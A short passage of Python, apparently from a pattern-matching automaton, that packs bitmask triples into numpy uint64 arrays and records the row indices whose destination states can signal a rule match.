            bel = np.zeros((len(triples), self.limbs), dtype=np.uint64)
            for row, (_, _, mask) in enumerate(triples):
                bel[row] = mask_to_limbs(mask, self.limbs)
            self.np_src.append(src)
            self.np_dst.append(dst)
            self.np_bel.append(bel)
            # rows whose destination can signal a match for some rule
            rows = np.fromiter(
                (i for i, (_, d, _) in enumerate(triples) if self.final_mask[d]),
                dtype=np.int64,
            )
            self.np_final_rows.append(rows if rows.size else None)
